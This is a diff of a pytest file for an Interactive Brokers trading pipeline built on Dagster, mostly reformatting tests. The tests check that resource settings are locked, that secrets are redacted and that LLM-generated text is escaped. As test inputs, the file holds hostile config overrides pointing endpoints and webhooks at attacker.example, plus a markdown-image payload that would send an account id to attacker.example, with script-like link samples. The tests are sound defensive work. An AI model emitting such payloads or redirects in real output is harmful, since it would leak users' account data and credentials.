@@ -12,7 +12,6 @@ from ibkr_pipeline.domain.redaction import redact_secrets, redact_url
 from ibkr_pipeline.resources.alerts import AlertWebhook
 from ibkr_pipeline.resources.chart_store import ChartStore
 from ibkr_pipeline.resources.database import DatabaseResource
-from ibkr_pipeline.resources.database import DatabaseResource
 from ibkr_pipeline.resources.llm import LLMResource
 
 ROOT_STRATEGIES = bundled.STRATEGIES
@@ -29,13 +28,16 @@ def deployment(monkeypatch, tmp_path):
     return build_definitions(ROOT_STRATEGIES)
 
 
-@pytest.mark.parametrize("override", [
-    {"llm": {"config": {"base_url": "https://attacker.example/v1"}}},
-    {"llm": {"config": {"api_key": {"env": "IBKR_PIPELINE_DB_URL"}}}},
-    {"database": {"config": {"url": {"env": "OPENAI_API_KEY"}}}},
-    {"chart_store": {"config": {"endpoint": "attacker.example:9000"}}},
-    {"alerts": {"config": {"url": "https://attacker.example/hook"}}},
-])
+@pytest.mark.parametrize(
+    "override",
+    [
+        {"llm": {"config": {"base_url": "https://attacker.example/v1"}}},
+        {"llm": {"config": {"api_key": {"env": "IBKR_PIPELINE_DB_URL"}}}},
+        {"database": {"config": {"url": {"env": "OPENAI_API_KEY"}}}},
+        {"chart_store": {"config": {"endpoint": "attacker.example:9000"}}},
+        {"alerts": {"config": {"url": "https://attacker.example/hook"}}},
+    ],
+)
 def test_no_resource_field_can_be_set_from_the_launchpad(deployment, override):
     job = deployment.resolve_job_def("us_megacaps_daily_tick")
     with pytest.raises(dg.DagsterInvalidConfigError) as refused:
@@ -52,12 +54,15 @@ def test_the_locked_resources_read_the_environment_when_a_run_starts(deployment)
 
 
 def test_repr_and_probes_never_show_a_secret():
-    shown = "\n".join(repr(r) for r in (
-        LLMResource(base_url="http://127.0.0.1:9/v1", api_key=KEY),
-        ChartStore(endpoint="127.0.0.1:9", access_key="AKIA-SECRET-ACCESS", secret_key="s3-secret-key-value"),
-        AlertWebhook(url="https://hooks.example/T000/B000/webhook-token-value"),
-        DatabaseResource(url=DB_URL),
-    ))
+    shown = "\n".join(
+        repr(r)
+        for r in (
+            LLMResource(base_url="http://127.0.0.1:9/v1", api_key=KEY),
+            ChartStore(endpoint="127.0.0.1:9", access_key="AKIA-SECRET-ACCESS", secret_key="s3-secret-key-value"),
+            AlertWebhook(url="https://hooks.example/T000/B000/webhook-token-value"),
+            DatabaseResource(url=DB_URL),
+        )
+    )
     for secret in (KEY, "AKIA-SECRET-ACCESS", "s3-secret-key-value", "webhook-token-value", "hunter2"):
         assert secret not in shown
     health = LLMResource(base_url="http://user:probe-password@127.0.0.1:9/v1", api_key=KEY).probe(timeout_s=2)
@@ -65,12 +70,15 @@ def test_repr_and_probes_never_show_a_secret():
     assert health.detail.startswith("user:***@127.0.0.1:9: ")
 
 
-@pytest.mark.parametrize(("url", "shown"), [
-    (DB_URL, "postgresql+psycopg2://trader:***@db.internal:5432/ibkr"),
-    ("https://api.example/v1?api_key=abc&model=x", "https://api.example/v1?api_key=***&model=x"),
-    ("http://user@host/x", "http://user@host/x"),
-    ("sqlite:////tmp/x.db", "sqlite:////tmp/x.db"),
-])
+@pytest.mark.parametrize(
+    ("url", "shown"),
+    [
+        (DB_URL, "postgresql+psycopg2://trader:***@db.internal:5432/ibkr"),
+        ("https://api.example/v1?api_key=abc&model=x", "https://api.example/v1?api_key=***&model=x"),
+        ("http://user@host/x", "http://user@host/x"),
+        ("sqlite:////tmp/x.db", "sqlite:////tmp/x.db"),
+    ],
+)
 def test_urls_lose_their_credentials(url, shown):
     assert redact_url(url) == shown
 
@@ -83,8 +91,9 @@ def test_model_text_is_shown_never_rendered():
     attack = "Buy! ![x](https://attacker.example/?acct=DU123) <img src=x> [click](javascript:alert(1))"
     cell = table(["why"], [[attack]]).splitlines()[2].strip("| ")
     assert re.search(r"(?<!\\)[!\[\]<>]", cell) is None  # nothing makes a link, an image or HTML
-    assert escape(attack) == ("Buy\\! \\!\\[x\\](https://attacker.example/?acct=DU123) \\<img src=x\\> "
-                              "\\[click\\](javascript:alert(1))")
+    assert escape(attack) == (
+        "Buy\\! \\!\\[x\\](https://attacker.example/?acct=DU123) \\<img src=x\\> \\[click\\](javascript:alert(1))"
+    )
     assert code_block("a ``` b ```` c") == "`````text\na ``` b ```` c\n`````"
 
 
